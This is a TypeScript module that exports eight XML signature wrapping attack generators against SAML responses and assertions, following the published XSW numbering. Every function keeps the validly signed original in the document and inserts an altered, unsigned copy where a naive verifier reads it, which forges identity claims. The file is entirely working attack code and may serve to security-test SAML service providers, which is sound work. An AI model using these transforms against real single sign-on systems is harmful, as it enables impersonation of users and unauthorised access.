/**
 * The eight shapes of signature wrapping (XSW; Somorovsky et al., "On Breaking SAML", 2012, as numbered by SAML
 * Raider): the signed original stays somewhere in the document, so that its signature verifies, and a changed copy
 * stands where a careless reader looks.
 *
 * 1 and 2 take a signed response, 3 to 8 a response with a signed assertion.
 */
export const wrappingShapes: Readonly<Record<number, (xml: string, evil: Evil) => string>> = {
  1: (xml, evil) => {
    const original = without(xml, signatureIn(xml))
    const signature = signatureIn(xml).replace('</ds:Signature>', `${original}</ds:Signature>`)
    return intoResponse(evil(original), signature)
  },
  2: (xml, evil) => {
    const original = without(xml, signatureIn(xml))
    return intoResponse(evil(original), `${original}${signatureIn(xml)}`)
  },
  3: (xml, evil) => xml.replace(assertionIn(xml), `${unsigned(evil(assertionIn(xml)))}${assertionIn(xml)}`),
  4: (xml, evil) => {
    const assertion = assertionIn(xml)
    return xml.replace(
      assertion,
      unsigned(evil(assertion)).replace('</saml:Assertion>', `${assertion}</saml:Assertion>`),
    )
  },
  5: (xml, evil) => {
    const assertion = assertionIn(xml)
    return xml.replace(assertion, `${evil(assertion)}${unsigned(assertion)}`)
  },
  6: (xml, evil) => {
    const assertion = assertionIn(xml)
    return xml.replace(assertion, evil(assertion).replace('</ds:Signature>', `${unsigned(assertion)}</ds:Signature>`))
  },
  7: (xml, evil) => {
    const assertion = assertionIn(xml)
    return xml.replace(assertion, `<samlp:Extensions>${unsigned(evil(assertion))}</samlp:Extensions>${assertion}`)
  },
  8: (xml, evil) => {
    const assertion = assertionIn(xml)
    const object = `<ds:Object>${unsigned(assertion)}</ds:Object></ds:Signature>`
    return xml.replace(assertion, evil(assertion).replace('</ds:Signature>', object))
  },
}

/** Changes who the copy speaks of, and its id. */
export type Evil = (xml: string) => string

const assertionIn = (xml: string): string => /<saml:Assertion.*<\/saml:Assertion>/s.exec(xml)?.[0] ?? ''
const signatureIn = (xml: string): string => /<ds:Signature.*?<\/ds:Signature>/s.exec(xml)?.[0] ?? ''
const without = (xml: string, part: string): string => xml.replace(part, '')
const unsigned = (xml: string): string => without(xml, signatureIn(xml))

/** After the issuer, where the schema has the signature. */
const intoResponse = (response: string, part: string): string =>
  response.replace('</saml:Issuer>', `</saml:Issuer>${part}`)
